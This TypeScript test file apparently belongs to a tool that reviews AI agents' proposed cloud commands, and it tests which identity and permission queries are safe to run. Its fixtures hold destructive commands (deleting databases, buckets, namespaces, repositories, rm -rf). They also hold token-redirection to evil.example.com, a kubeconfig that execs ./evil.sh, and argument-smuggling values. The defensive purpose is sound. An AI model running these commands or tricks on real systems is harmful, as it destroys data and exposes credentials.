// The commands that a person may start to ask a system itself: exactly these words, only about identities that the user's own files choose,
// never a secret in an argument; and what is taken from the answers.
import assert from 'node:assert/strict';
import type { ProposedAction } from '../../../src/core/model/action';
import { emptySession } from '../../../src/core/model/session';
import { defaultPolicy } from '../../../src/core/policy/policy';
import { checksOnceKnown, onlineChecks, policySource, type OnlineCheck } from '../../../src/core/privileges/onlineChecks';
import { readOnlineAnswer } from '../../../src/core/privileges/onlineAnswers';
import { reviewAction } from '../../../src/core/review';
import type { Review } from '../../../src/core/model/review';
import { grammars } from '../grammars';
import { inMemoryFacts } from '../inMemoryFacts';
import { workspace } from './asking';

const home = '/home/dev';
const files: Record<string, string> = {
  [`${home}/.aws/config`]: '[profile prod]\nregion = eu-west-1\nrole_arn = arn:aws:iam::123456789012:role/ops/Operator\nsource_profile = base\n[profile base]\nsso_account_id = 123456789012\nsso_role_name = Admin\n[profile local]\nendpoint_url = http://localhost:4566\naws_access_key_id = AKIAQNZGKIQY56JQ7WML\n',
  [`${home}/.kube/config`]: 'current-context: eu\nclusters:\n- name: c\n  cluster: {server: "https://k.example.com"}\ncontexts:\n- name: eu\n  context: {cluster: c, user: u, namespace: shop}\nusers:\n- name: u\n  user: {token: kanarie1}\n',
  [`${home}/.config/gcloud/configurations/config_default`]: '[core]\naccount = a@example.com\nproject = shop-live\n',
  [`${home}/.azure/azureProfile.json`]: '{"subscriptions":[{"id":"0000-1","name":"n","isDefault":true,"user":{"name":"a@example.com","type":"user"}}]}',
  [`${home}/.config/gh/hosts.yml`]: 'github.com:\n    user: alice\n    oauth_token: kanarie2\n', [`${home}/.npmrc`]: '//npm.example.com/:_authToken=kanarie3\nregistry=https://me:kanarie4@npm.example.com/\n',
  [`${home}/.local/share/com.vercel.cli/auth.json`]: '{"token":"kanarie5"}',
  [`${workspace}/package.json`]: '{"name":"x"}', [`${workspace}/kube.yaml`]: 'current-context: x\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\nusers:\n- name: u\n  user: {exec: {command: ./evil.sh}}\n',
};
const facts = inMemoryFacts({ files, git: { root: workspace, committed: {} } });

async function reviewOf(command: string, env: Record<string, string> = {}, world = facts): Promise<Review> {
  const action: ProposedAction = { id: 'a', agent: 'test', session: 's', cwd: workspace, env, request: { tool: 'shell', command, shell: 'bash' } };
  return (await reviewAction(action, world, grammars, defaultPolicy)).review;
}

const textOf = (check: OnlineCheck): string => [...Object.entries(check.variables).map(([name, value]) => `${name}=${value}`), ...check.logins.map(name => `${name}=*`), ...check.command].join(' ');

describe('privileges/onlineChecks', () => {
  const asks = (command: string, env: Record<string, string>, ...expected: readonly string[]): void => {
    it(`${command} ${Object.keys(env).join(' ')}`, async () => {
      const review = await reviewOf(command, env);
      assert.deepEqual(onlineChecks(review).map(textOf), expected);
    });
  };
  const kube = `KUBECONFIG=${home}/.kube/config`;
  asks('aws cloudformation delete-stack --stack-name shop', { AWS_PROFILE: 'prod' },
    'aws sts get-caller-identity --profile=prod --region=eu-west-1 --output=json',
    'aws iam simulate-principal-policy --policy-source-arn=arn:aws:iam::123456789012:role/ops/Operator --action-names cloudformation:DeleteStack --resource-arns arn:aws:cloudformation:eu-west-1:123456789012:stack/shop/* --profile=prod --region=eu-west-1 --output=json');
  asks('aws rds delete-db-instance --db-instance-identifier orders --skip-final-snapshot', { AWS_ACCESS_KEY_ID: 'AKIAQNZGKIQY56JQ7WML', AWS_SECRET_ACCESS_KEY: 'kanarie6' },
    'AWS_ACCESS_KEY_ID=* AWS_SECRET_ACCESS_KEY=* AWS_SESSION_TOKEN=* aws sts get-caller-identity --output=json');
  // A value that the hook kept back can ask nobody.
  asks('aws rds delete-db-instance --db-instance-identifier orders', { AWS_ACCESS_KEY_ID: 'AKIAQNZGKIQY56JQ7WML', AWS_SECRET_ACCESS_KEY: '[redacted]' });
  asks('gh repo delete acme/shop --yes', { GH_TOKEN: '[redacted]' });
  // Keys of the command itself, and what runs on this machine, are not asked about.
  asks('AWS_ACCESS_KEY_ID=AKIAQNZGKIQY56JQ7WML AWS_SECRET_ACCESS_KEY=kanarie7 aws s3 rb s3://shop-data --force', {});
  asks('aws --profile local s3 rb s3://shop-data --force', {});
  asks('kubectl delete deployment/web -n shop', {}, `${kube} kubectl auth whoami --output=json --context=eu`, `${kube} kubectl auth can-i delete deployment/web --namespace=shop --context=eu`);
  asks('kubectl delete ns shop', {}, `${kube} kubectl auth whoami --output=json --context=eu`, `${kube} kubectl auth can-i delete namespace/shop --context=eu`);
  // Another server would be given this one's token; a kubeconfig of the project could start any program.
  asks('kubectl --server https://evil.example.com delete ns shop', {});
  asks('kubectl --kubeconfig kube.yaml delete ns shop', {});
  asks('kubectl delete ns shop', { KUBECONFIG: `${workspace}/kube.yaml` });
  asks('gcloud sql instances delete orders', {}, `CLOUDSDK_CONFIG=${home}/.config/gcloud CLOUDSDK_CORE_ACCOUNT=a@example.com gcloud auth list --filter=status:ACTIVE --format=value(account)`,
    `CLOUDSDK_CONFIG=${home}/.config/gcloud CLOUDSDK_CORE_ACCOUNT=a@example.com gcloud projects get-iam-policy shop-live --flatten=bindings[].members --filter=bindings.members:a@example.com --format=value(bindings.role)`);
  asks('az group delete -n shop', {}, `AZURE_CONFIG_DIR=${home}/.azure az account show --subscription=0000-1 --output=json`, `AZURE_CONFIG_DIR=${home}/.azure az role assignment list --assignee=a@example.com --all --include-inherited --include-groups --subscription=0000-1 --output=json`);
  asks('gh repo delete acme/shop --yes', {}, 'gh auth status --hostname=github.com', 'gh api repos/acme/shop --hostname=github.com --jq=.permissions');
  asks('gh repo delete acme/shop --yes', { GH_HOST: 'evil.example.com', GH_ENTERPRISE_TOKEN: 'kanarie8' });
  asks('gh repo delete acme/shop --yes', { GH_TOKEN: 'kanarie9' }, 'GH_TOKEN=* GITHUB_TOKEN=* gh auth status --hostname=github.com', 'GH_TOKEN=* GITHUB_TOKEN=* gh api repos/acme/shop --hostname=github.com --jq=.permissions');
  asks('npm publish', {}, 'npm whoami --registry=https://npm.example.com/');
  asks('vercel remove shop --yes', {}, 'vercel whoami');
  asks('rm -rf src', {});

  it('a file that the agent wrote in this session chooses nothing', async () => {
    const path = `${home}/.kube/config`;
    const world = inMemoryFacts({ files, session: { ...emptySession('s'), files: [{ path, content: files[path], action: 'a' }] } });
    assert.deepEqual(onlineChecks(await reviewOf('kubectl delete ns shop', {}, world)), []);
  });
  it('no argument and no variable holds a secret', async () => {
    for (const command of ['aws s3 rb s3://x-data', 'kubectl delete ns x', 'gh repo delete a/b', 'npm publish', 'vercel rm x', 'kubectl --token kanarie10 delete ns x', 'gh repo delete a/b']) {
      assert.doesNotMatch(JSON.stringify(onlineChecks(await reviewOf(command, { GH_TOKEN: 'kanarie11', VERCEL_TOKEN: 'kanarie12', AWS_PROFILE: 'prod' }))), /kanarie/, command);
    }
  });
  it('a name that would be an option or hides characters is no argument of its own', async () => {
    for (const command of ["kubectl delete deployment --context=eu -- '--all'", "aws cloudformation delete-stack --stack-name '--no-verify-ssl' --profile prod", "gh repo delete '--hostname=evil/x'", "aws --profile $'a\\u202eb' s3 rb s3://x-data"]) {
      const words = onlineChecks(await reviewOf(command)).flatMap(check => check.command);
      assert.ok(!words.some(word => /^--(?:all|no-verify-ssl|hostname=evil)/.test(word) || /[\u202a-\u202e]/.test(word)), words.join(' '));
    }
  });
  it('once AWS has said who it is, its policies can be asked', async () => {
    const review = await reviewOf('aws rds delete-db-instance --db-instance-identifier orders', { AWS_ACCESS_KEY_ID: 'AKIAQNZGKIQY56JQ7WML', AWS_SECRET_ACCESS_KEY: 'kanarie6' });
    const [principal] = review.principals;
    assert.ok(principal);
    assert.deepEqual(checksOnceKnown(principal, 'arn:aws:sts::029608264753:assumed-role/Ops/alice', review.effects).map(check => check.command.slice(0, 6).join(' ')),
      ['aws iam simulate-principal-policy --policy-source-arn=arn:aws:iam::029608264753:role/Ops --action-names rds:DeleteDBInstance']);
    assert.equal(policySource('arn:aws:iam::123456789012:root'), undefined);
    assert.equal(policySource('arn:aws:sts::123456789012:assumed-role/AWSReservedSSO_A_0123456789abcdef/x'), 'arn:aws:iam::123456789012:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_A_0123456789abcdef');
  });
});

describe('privileges/onlineAnswers', () => {
  const check = (id: string): OnlineCheck => ({ id, system: 'aws', command: ['tool'], variables: {}, logins: [], purpose: '', asks: 'identity' });
  const reads = (id: string, output: string, text: string | undefined, kind = 'told', exit: number | undefined = 0): void => {
    it(`${id}: ${output.slice(0, 40)}`, () => {
      const answer = readOnlineAnswer(check(id), exit, output);
      assert.deepEqual([answer.kind, answer.kind === 'failed' ? undefined : answer.text], [kind, text]);
    });
  };
  reads('aws/identity', '{"UserId":"AROA:alice","Account":"123456789012","Arn":"arn:aws:sts::123456789012:assumed-role/Ops/alice"}', 'role Ops (session alice) in account 123456789012');
  reads('aws/identity', '{"Arn":"arn:aws-cn:iam::123456789012:root"}', 'the root user in account 123456789012');
  reads('aws/identity', 'An error occurred', undefined, 'failed', 254);
  reads('aws/identity', '<html>', undefined, 'failed');
  reads('aws/rights/rds:DeleteDBInstance', '{"EvaluationResults":[{"EvalActionName":"rds:DeleteDBInstance","EvalDecision":"allowed"}]}', 'its policies allow rds:DeleteDBInstance', 'yes');
  reads('aws/rights/rds:DeleteDBInstance', '{"EvaluationResults":[{"EvalActionName":"rds:DeleteDBInstance","EvalDecision":"explicitDeny"}]}', 'its policies refuse rds:DeleteDBInstance', 'no');
  reads('kubernetes/rights/delete namespace/x', 'yes\n', 'the cluster allows it', 'yes');
  reads('kubernetes/rights/delete namespace/x', "Warning: resource 'namespaces' is not namespace scoped\nno\n", 'the cluster does not allow it', 'no', 1);
  reads('kubernetes/rights/delete namespace/x', '', undefined, 'failed', 1);
  reads('kubernetes/identity', '{"status":{"userInfo":{"username":"alice","groups":["system:masters"]}}}', 'user alice, groups system:masters');
  reads('gcloud/rights', 'roles/owner\nroles/editor\n', 'roles roles/owner, roles/editor');
  reads('gcloud/rights', '', 'no role of its own in this project');
  reads('azure/rights', '[{"roleDefinitionName":"Owner","scope":"/subscriptions/1"}]', 'Owner on 1');
  reads('githost/identity', 'github.com\n  ✓ Logged in to github.com account alice (keyring)\n  - Token: gho_************************************\n  - Token scopes: \'delete_repo\', \'repo\'\n', 'alice on github.com, scopes delete_repo, repo');
  reads('githost/rights', '{"admin":true,"push":true,"pull":true,"maintain":false}', 'admin, push, pull');
  reads('registry/identity', 'alice\n', 'signed in as alice');
  reads('platform/identity', 'Vercel CLI 34\n> kanarie\nalice-team\n', 'signed in as alice-team');
  reads('platform/identity', '[{"id":"r","name":"shop"}]', 'reaches 1 projects: shop');
  reads('platform/identity', 'x', undefined, 'failed', undefined);
  it('what is not a known field never comes out', () => {
    for (const id of ['aws/identity', 'kubernetes/identity', 'gcloud/identity', 'gcloud/rights', 'azure/identity', 'azure/rights', 'githost/identity', 'githost/rights', 'registry/identity', 'aws/rights/x:Y']) {
      const answer = readOnlineAnswer(check(id), 0, '{"token":"sk_kanarie zang","Arn":"arn:aws:iam::123456789012:user/u","secret":"kanarie zang"}\nerror: kanarie zang = 1\n');
      assert.doesNotMatch(JSON.stringify(answer), /kanarie/, id);
    }
  });
});
